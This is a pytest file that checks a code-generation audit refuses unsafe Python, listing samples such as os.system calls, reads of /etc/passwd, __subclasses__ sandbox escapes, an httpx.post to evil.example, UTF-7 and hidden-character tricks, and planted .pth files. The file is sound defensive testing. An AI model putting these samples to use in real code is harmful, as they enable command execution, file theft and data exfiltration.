"""The last look at generated code, which knows nothing of the document it came from."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest

from codegen.audit import audit_source, audit_tree
from krea_aleph.specdiff.errors import StepError

from .conftest import ROOT

if TYPE_CHECKING:
    from pathlib import Path

REFUSED = {
    "a call on import": 'print("x")',
    "a call of os": 'import os\nos.system("id")',
    "os by another name": "import os as json",
    "from os": "from os import system",
    "everything of os": "from os import *",
    "subprocess": "import subprocess",
    "a relative escape": "from ...... import *",
    "__import__": '__import__("os").system("id")',
    "eval": 'x = eval("1")',
    "exec in a function": 'def f() -> None:\n    exec("x")',
    "open in a function": 'def f() -> None:\n    open("/etc/passwd")',
    "getattr": 'def f() -> None:\n    getattr(f, "x")()',
    "globals": 'def f() -> None:\n    globals()["x"] = 1',
    "a builtin through a dunder": "x = ().__class__",
    "subclasses": "x = ().__class__.__base__.__subclasses__()",
    "code in a default": "def f(x: int = print(1)) -> None: ...",
    "code in an annotation": 'def f(x: print("x")) -> None: ...',
    "code in a return annotation": 'def f() -> print("x"): ...',
    "code in a decorator": "@print\ndef f() -> None: ...",
    "code in a decorator's call": "from attrs import define\n@define(print(1))\nclass A: ...",
    "code in a base": "class A(print(1)): ...",
    "a metaclass": "class A(metaclass=print): ...",
    "code in a class body": "class A:\n    x = print(1)",
    "code in a comprehension": "x = {k: print(k) for k in (1, 2)}",
    "code in an f-string": "def f() -> str:\n    return f'{print(1)}'",
    "a lambda": "x = lambda: 1",
    "a walrus": "def f() -> None:\n    if (x := 1): ...",
    "a loop at the top": "for x in (1,): ...",
    "a try at the top": "try:\n    x = 1\nexcept ValueError: ...",
    "a with at the top": "with x: ...",
    "a raise at the top": "raise ValueError()",
    "a bare expression": "x\ny.z",
    "an assertion": "def f() -> None:\n    assert f",
    "a global": "def f() -> None:\n    global x",
    "a while": "def f() -> None:\n    while True: ...",
    "a yield": "def f():\n    yield 1",
    "another request": 'import httpx\ndef f() -> None:\n    httpx.post("https://evil.example")',
    "a call of what was made": "def f() -> None:\n    (lambda: 1)()",
    "a call of an item": "def f(x: list[int]) -> None:\n    x[0]()",
    "a method that is not ours": "def f(x: str) -> None:\n    x.mro()",
    "a class of httpx that is not ours": "import httpx\nx: httpx.HTTPTransport",
    "a dunder name": "__builtins__ = 1",
    "a dunder method": "class A:\n    def __getattr__(self, name: str) -> None: ...",
    "a call to another host": '_kwargs = {"url": "https://evil.example/x"}',
    "a path that climbs out": '_kwargs = {"url": "//evil.example/{id}".format(id=1)}',
    "a comment for the type checker": "x = 1  # type: ignore",
    "an encoding": "# -*- coding: utf-7 -*-\nx = 1",
    "a hidden character": 'x = "a\u202eb"',
    "no Python": "def f(:",
    "no end": "(" * 5_000,
}


@pytest.mark.parametrize("source", REFUSED.values(), ids=REFUSED.keys())
def test_the_audit_refuses(source: str) -> None:
    """Code that generated code does not need is refused unread by any interpreter."""
    with pytest.raises(StepError) as caught:
        audit_source(source.encode(), "module.py")
    assert caught.value.step == "audit"
    assert "module.py" in str(caught.value)


def test_the_audit_refuses_other_encodings() -> None:
    """A module that is not UTF-8 is refused."""
    with pytest.raises(StepError, match="no Python"):
        audit_source("x = 'ä'".encode("latin-1"), "module.py")


def _package(folder: Path) -> Path:
    """Copy the generated package without what Python left in it."""
    package = folder / "package"
    ignore = shutil.ignore_patterns("__pycache__")
    shutil.copytree(ROOT / "generated/krea_aleph_api", package, ignore=ignore)
    return package


def test_the_generated_package_passes(tmp_path: Path) -> None:
    """What the generator makes today is exactly the kind of code that is allowed."""
    audit_tree(_package(tmp_path))


@pytest.mark.parametrize("name", ["evil.pth", "sitecustomize.txt", "models/lib.so", "setup.cfg"])
def test_stray_files_are_refused(name: str, tmp_path: Path) -> None:
    """A file that no generated package has stops the run."""
    package = _package(tmp_path)
    (package / name).write_text("x", encoding="utf-8")
    with pytest.raises(StepError, match=name):
        audit_tree(package)


def test_links_are_refused(tmp_path: Path) -> None:
    """A symbolic link is no generated file, wherever it leads."""
    (tmp_path / "x.py").symlink_to("/etc/passwd")
    with pytest.raises(StepError, match="symbolic link"):
        audit_tree(tmp_path)
